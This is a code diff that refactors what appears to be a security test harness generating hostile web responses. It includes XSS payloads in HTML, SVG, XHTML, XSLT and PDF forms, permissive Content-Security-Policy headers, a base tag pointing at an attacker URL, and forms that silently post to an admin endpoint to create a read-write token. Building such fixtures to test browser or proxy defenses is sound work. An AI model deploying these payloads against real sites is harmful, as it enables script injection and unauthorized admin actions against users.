@@ -94,17 +94,17 @@ def hostile_api(mount: str) -> Iterator[HostileAPI]:
 
 def answers_of(api: HostileAPI) -> dict[str, Attack]:
     """Write answers that attack whoever opens them, or whatever page takes them in."""
-    run, evil = api.script, api.url
-    page = f"<!doctype html><script>{run}</script>"
+    return {**_documents(api), **_types(api), **_headers(api)}
+
+
+def _page(api: HostileAPI) -> str:
+    return f"<!doctype html><script>{api.script}</script>"
+
+
+def _documents(api: HostileAPI) -> dict[str, Attack]:
+    """Write pages."""
+    run, evil, page = api.script, api.url, _page(api)
     inner = page.replace('"', "&quot;")
-    xslt = (
-        '<?xml version="1.0"?><xsl:stylesheet version="1.0" '
-        'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><script>'
-        f"{run}</script></html></xsl:template></xsl:stylesheet>"
-    )
-    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script></svg>'
-    xhtml = f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{run}</script></html>'
-    loose = "script-src * 'unsafe-inline'; sandbox allow-scripts allow-same-origin allow-forms"
     return {
         "script": Attack(page),
         "handler": Attack(f'<img src="x:" onerror="{run}"><body onload="{run}">'),
@@ -128,6 +128,20 @@ def answers_of(api: HostileAPI) -> dict[str, Attack]:
             '<button id="go">go</button></form>'
         ),
         "base": Attack(f'<base href="{evil}/"><script src="js"></script>'),
+    }
+
+
+def _types(api: HostileAPI) -> dict[str, Attack]:
+    """Write what is no page, or does not say so."""
+    run, page = api.script, _page(api)
+    xslt = (
+        '<?xml version="1.0"?><xsl:stylesheet version="1.0" '
+        'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><script>'
+        f"{run}</script></html></xsl:template></xsl:stylesheet>"
+    )
+    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script></svg>'
+    xhtml = f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{run}</script></html>'
+    return {
         "svg": Attack(svg, SVG),
         "xhtml": Attack(xhtml, "application/xhtml+xml"),
         "xml": Attack(xhtml, "application/xml"),
@@ -154,6 +168,14 @@ def answers_of(api: HostileAPI) -> dict[str, Attack]:
             f"{run})>>>>endobj trailer<</Root 1 0 R>>",
             "application/pdf",
         ),
+    }
+
+
+def _headers(api: HostileAPI) -> dict[str, Attack]:
+    """Write headers that loosen, lead elsewhere or set something, and what is to be run."""
+    run, page = api.script, _page(api)
+    loose = "script-src * 'unsafe-inline'; sandbox allow-scripts allow-same-origin allow-forms"
+    return {
         "inline-file": Attack(page, HTML, (("content-disposition", "inline; filename=a.html"),)),
         "loose-policy": Attack(page, HTML, (("content-security-policy", loose),)),
         "loose-policies": Attack(page, HTML, (("content-security-policy", f"{loose}, {loose}"),)),
@@ -175,11 +197,13 @@ def answers_of(api: HostileAPI) -> dict[str, Attack]:
 
 def pages_of(api: HostileAPI) -> dict[str, str]:
     """Write pages of the portal, by their paths, that go for the admin portal beside it."""
+    return {**_takers(api), **_senders(api)}
+
+
+def _takers(api: HostileAPI) -> dict[str, str]:
+    """Write pages that run or take in something."""
     run, js, evil = api.script, api.at("js"), api.url
     inner = f"&lt;script&gt;{run}&lt;/script&gt;"
-    fields = '<input name="name" value="theirs"><input name="permission" value="rw">'
-    button = '<button id="go">go</button></form>'
-    post = '<form method="post" action="/p/admin/tokens"'
     return {
         "/h/inline": f"<script>{run}</script>",
         "/h/handler": f'<img src="x:" onerror="{run}">',
@@ -215,6 +239,16 @@ def pages_of(api: HostileAPI) -> dict[str, str]:
         "/h/speculation": '<script type="speculationrules">{"prerender":[{"urls":["/p/admin"]}]}'
         "</script>",
         "/h/prefetch": '<link rel="prefetch" href="/p/admin/tokens">',
+    }
+
+
+def _senders(api: HostileAPI) -> dict[str, str]:
+    """Write pages whose form is sent to the admin portal, and one that tells what follows it."""
+    evil = api.url
+    fields = '<input name="name" value="theirs"><input name="permission" value="rw">'
+    button = '<button id="go">go</button></form>'
+    post = '<form method="post" action="/p/admin/tokens"'
+    return {
         "/h/post": f"{post}>{fields}{button}",
         "/h/post-silently": f'{post} referrerpolicy="no-referrer">{fields}{button}'
         '<meta name="referrer" content="no-referrer">',
